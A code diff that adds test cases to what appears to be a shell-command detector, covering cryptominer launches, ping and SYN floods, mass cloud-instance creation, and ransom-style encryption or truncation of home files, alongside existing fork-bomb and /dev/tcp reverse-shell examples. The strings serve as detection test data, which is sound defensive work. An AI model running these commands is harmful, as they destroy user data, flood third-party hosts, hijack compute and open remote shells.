@@ -280,6 +280,34 @@ EXAMPLES: dict[str, dict[str, tuple[str, ...]]] = {
         "fires": (":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "perl -e 'fork while fork'"),
         "quiet": ("f() { echo hi; }; f", "retry() { make || retry; }"),
     },
+    "cmd.resource_abuse": {
+        "fires": (
+            "./xmrig -o pool.example:3333 -u 4AbC",
+            "./helper -o stratum+tcp://pool.example.net:3333",
+            "hping3 --flood -S -p 80 203.0.113.5",
+            "ping -f 198.51.100.7",
+        ),
+        "quiet": ("ping -c 3 example.com", "hping3 -S -p 443 -c 3 127.0.0.1", "xmrig --version"),
+    },
+    "cmd.resource_heavy": {
+        "fires": (
+            "ab -n 10000000 -c 1000 https://shop.example.com/",
+            "aws ec2 run-instances --image-id ami-1 --count 200 --instance-type c5.large",
+            "gcloud compute instances create w1 --accelerator type=nvidia-tesla-a100,count=8",
+        ),
+        "quiet": (
+            "ab -n 100 -c 10 http://localhost:8000/",
+            "aws ec2 run-instances --image-id ami-1 --count 1 --instance-type t3.micro",
+        ),
+    },
+    "cmd.destructive.ransom": {
+        "fires": (
+            "find ~ -type f -exec truncate -s0 {} \\;",
+            "zip -r -e -m ~/loot.zip ~/Documents",
+            "find ~/Documents -type f -exec gpg -c {} \\; -exec rm {} \\;",
+        ),
+        "quiet": ("find . -name '*.log' -exec truncate -s0 {} \\;", "gpg -c notes.txt"),
+    },
     "cmd.reverse_shell": {
         "fires": (
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
